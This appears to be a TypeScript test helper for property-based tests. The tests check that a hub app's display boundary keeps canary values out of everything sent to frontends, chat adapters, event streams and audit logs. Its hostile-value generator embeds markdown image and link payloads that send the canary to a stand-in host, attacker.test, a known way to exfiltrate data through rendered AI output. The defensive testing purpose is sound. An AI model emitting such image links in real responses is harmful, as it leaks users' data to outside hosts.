/**
 * The display boundary's property tests' shared parts: canaries and hostile values that carry them,
 * one run of a query over RPC (so a control can switch the boundary off), and everything that left
 * for a frontend or the audit log after it.
 */
import { env } from "cloudflare:workers";
import fc from "fast-check";
import { expect } from "vitest";
import type { HubDO } from "../../src/objects/hub/index.ts";
import { hubObjectName } from "../../src/objects/names.ts";
import { rpc } from "../../src/objects/rpc.ts";
import { api } from "./helpers.ts";
import { answer, type HubWorld, nextConsent, openSession, settle } from "./hub-kit.ts";

/** A canary: nothing else in a run contains it. */
export const canaries = fc.stringMatching(/^[a-z0-9]{10}$/).map((s) => `cnry${s}`);

/** A JSON value carrying the canary everywhere it can go: as a value, a key, a link, an image, nested. */
export const hostile = (c: string) =>
  fc.letrec((tie) => ({
    node: fc.oneof(
      { depthSize: "small", withCrossShrink: true },
      fc.constantFrom(c, `![s](https://attacker.test/p?d=${c})`, `[open](https://attacker.test/${c})`),
      fc.integer(),
      fc.array(tie("node"), { maxLength: 3 }),
      fc.dictionary(fc.constantFrom(c, `${c}.x`, "note"), tie("node"), { maxKeys: 3 }),
    ),
  })).node;

/** An answer the app's schema ({note: string}, nothing else) refuses, with the canary in it. */
export const badAnswer = (c: string) =>
  fc.record({
    note: fc.oneof(fc.integer(), fc.array(hostile(c), { maxLength: 2 }), fc.constant({ [c]: c })),
    [c]: hostile(c),
    nested: fc.dictionary(fc.constant(c), hostile(c), { maxKeys: 1 }),
  });

/** One run: a new session (or `session`), the query over RPC (so the control can switch the boundary off), settled. */
export async function run(
  w: HubWorld,
  path: { allow?: boolean; expected: "completed" | "failed" },
  boundary: "on" | "off",
  session?: string,
): Promise<{ sid: string; qid: string; code: string | undefined }> {
  const sid = session ?? (await openSession(w));
  const hub = rpc<HubDO>(env.HUB.getByName(hubObjectName(w.tenant.tenantId, sid)));
  const started = await hub.startQuery("Mail Dana a status update", null, { boundary });
  if (!started.ok) throw new Error(started.code);
  const qid = started.query.id;
  if (path.allow) await answer(w, sid, (await nextConsent(w, sid)).id, { decision: "allow" });
  const q = await settle(w, sid, qid);
  expect(q.status, JSON.stringify(q.error)).toBe(path.expected);
  return { sid, qid, code: q.error?.code };
}

/** The session's server-sent events, read until the query's end. */
export async function events(w: HubWorld, sid: string): Promise<string> {
  const res = await api("GET", `/v1/sessions/${sid}/events`, { key: w.frontend, stream: true });
  const reader = res.response.body!.getReader();
  const decoder = new TextDecoder();
  let text = "";
  while (!text.includes("query_finished")) {
    const { value, done } = await reader.read();
    if (done) break;
    text += decoder.decode(value);
  }
  await reader.cancel();
  return text;
}

/** What each chat adapter says of the query: a new turn reports on the query it is owed. */
export async function chats(w: HubWorld, sid: string, qid: string): Promise<string[]> {
  const hub = rpc<HubDO>(env.HUB.getByName(hubObjectName(w.tenant.tenantId, sid)));
  const headers = { "X-Lattice-Session": sid };
  await hub.oweTurn(qid);
  const openai = await api("POST", "/v1/openai/chat/completions", {
    key: w.frontend,
    headers,
    body: { model: "lattice", user: "alice", messages: [{ role: "user", content: "and?" }] },
  });
  expect(openai.status, JSON.stringify(openai.body)).toBe(200);
  await hub.oweTurn(qid);
  const aiSdk = await api("POST", "/v1/ai-sdk/chat", {
    key: w.frontend,
    headers,
    body: {
      id: "chat-1",
      user: "alice",
      messages: [{ id: "m1", role: "user", parts: [{ type: "text", text: "and?" }] }],
    },
  });
  expect(aiSdk.status, JSON.stringify(aiSdk.body)).toBe(200);
  return [JSON.stringify(openai.body), String(aiSdk.body)];
}

/** Everything that left for a frontend or the audit log after the run. */
export async function leftBy(w: HubWorld, sid: string, qid: string): Promise<Record<string, string>> {
  const query = await api("GET", `/v1/sessions/${sid}/queries/${qid}`, { key: w.frontend });
  const consents = await api("GET", `/v1/sessions/${sid}/consents`, { key: w.frontend });
  const audit = await api("GET", "/v1/admin/audit?limit=500", { key: w.tenant.adminKey });
  const [openai, aiSdk] = await chats(w, sid, qid);
  return {
    query: JSON.stringify(query.body),
    consents: JSON.stringify(consents.body),
    audit: JSON.stringify(audit.body),
    events: await events(w, sid),
    openai: openai!,
    aiSdk: aiSdk!,
  };
}

/** Asserts the canary is in nothing that left, naming where it was found. */
export function expectNone(left: Record<string, string>, c: string): void {
  for (const [where, text] of Object.entries(left)) expect(text, where).not.toContain(c);
}
